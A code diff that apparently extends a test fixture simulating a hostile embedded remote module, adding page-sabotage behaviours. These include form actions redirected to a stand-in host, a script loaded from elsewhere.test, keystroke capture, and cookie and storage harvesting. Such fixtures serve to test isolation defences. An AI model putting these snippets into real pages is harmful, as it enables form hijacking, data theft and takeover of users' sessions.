@@ -12,6 +12,7 @@ if (deed() === 'loops at import') {
   window.localStorage.setItem('planted-runs', `${window.localStorage.getItem('planted-runs') ?? ''}I`);
   workUntil(end);
 }
+if (deed() === 'throws at import') throw new Error('planted');
 
 /** What a remote might do to the page around it, each once it is shown. */
 const DEEDS: Readonly<Record<string, () => void>> = {
@@ -47,6 +48,69 @@ const DEEDS: Readonly<Record<string, () => void>> = {
   },
   'reads what is typed': () => window.addEventListener('input', steal, true),
   'looks around': () => void lookAround(),
+  'patches Response': () => {
+    Reflect.set(Response.prototype, 'json', () => Promise.reject(new TypeError('planted')));
+  },
+  'patches URL': () => {
+    Reflect.set(window, 'URL', function planted() {
+      throw new TypeError('planted');
+    });
+  },
+  'patches RegExp': () => {
+    Reflect.set(RegExp.prototype, 'exec', () => null);
+  },
+  'patches createElement': () => {
+    Reflect.set(Document.prototype, 'createElement', () => {
+      throw new Error('planted');
+    });
+  },
+  'patches setTimeout': () => {
+    Reflect.set(window, 'setTimeout', () => 0);
+  },
+  'patches FormData': () => {
+    Reflect.set(FormData.prototype, 'get', () => null);
+    Reflect.set(FormData.prototype, 'entries', () => [][Symbol.iterator]());
+  },
+  'prevents typing': () => window.addEventListener('beforeinput', stop, true),
+  'swallows what is typed': () => window.addEventListener('input', stop, true),
+  'prevents pointers': () => {
+    window.addEventListener('pointerdown', stop, true);
+    window.addEventListener('mousedown', stop, true);
+  },
+  'takes the focus away': () =>
+    window.addEventListener('focusin', ({ target }) => target instanceof HTMLElement && target.blur(), true),
+  'empties fields': () => setInterval(() => forEach('input', (field) => (field.value = '')), 20),
+  'disables fields': () => setInterval(() => forEach('input', (field) => (field.disabled = true)), 20),
+  'makes fields read-only': () => setInterval(() => forEach('input', (field) => (field.readOnly = true)), 20),
+  'disables the button': () => setInterval(() => forEach('button', (button) => (button.disabled = true)), 20),
+  'keeps pointers off': () => addSheet('body { pointer-events: none !important }'),
+  'moves the form away': () => addSheet('form { position: fixed !important; left: -9999px !important }'),
+  'makes all transparent': () => addSheet('body { opacity: 0 !important }'),
+  'makes the page inert': () => forEach('body', (body) => (body.inert = true)),
+  'removes the form': () => forEach('form', (form) => form.remove()),
+  'empties the page': () => document.body.replaceChildren(),
+  'leaves the page': () => window.location.assign('/vestibule.config.json'),
+  'loads the page again': () => window.location.reload(),
+  'opens a dialog': () => {
+    const dialog = document.createElement('dialog');
+    document.body.append(dialog);
+    dialog.showModal();
+  },
+  'sends forms elsewhere': () =>
+    setInterval(() => forEach('form', (form) => (form.action = 'https://elsewhere.test/')), 20),
+  'writes markup': () => {
+    document.createElement('p').innerHTML = '<b>planted</b>';
+  },
+  'loads a script from elsewhere': () => {
+    const script = document.createElement('script');
+    script.src = 'https://elsewhere.test/script.js';
+    document.head.append(script);
+  },
+  'calls another host': () => void fetch('https://elsewhere.test/'),
+  'throws in an effect': fail,
+  'throws in a timer': () => void setTimeout(fail),
+  'throws in a handler': () => window.addEventListener('focusin', fail),
+  'rejects a promise': () => void Promise.reject(new Error('planted')),
   'works for long': () => setInterval(() => workUntil(performance.now() + 300), 400),
 };
 
@@ -69,6 +133,17 @@ async function lookAround(): Promise<void> {
   const { status } = await fetch(`${apiDomain}/me`, { credentials: 'include' });
   const text = JSON.stringify([document.cookie, window.localStorage, window.sessionStorage]);
   Object.assign(window, { seen: { status, text } });
+}
+
+function fail(): never {
+  throw new Error('planted');
+}
+
+function forEach<Name extends keyof HTMLElementTagNameMap>(
+  name: Name,
+  deal: (element: HTMLElementTagNameMap[Name]) => void,
+): void {
+  for (const element of document.querySelectorAll(name)) deal(element);
 }
 
 function addSheet(text: string): void {
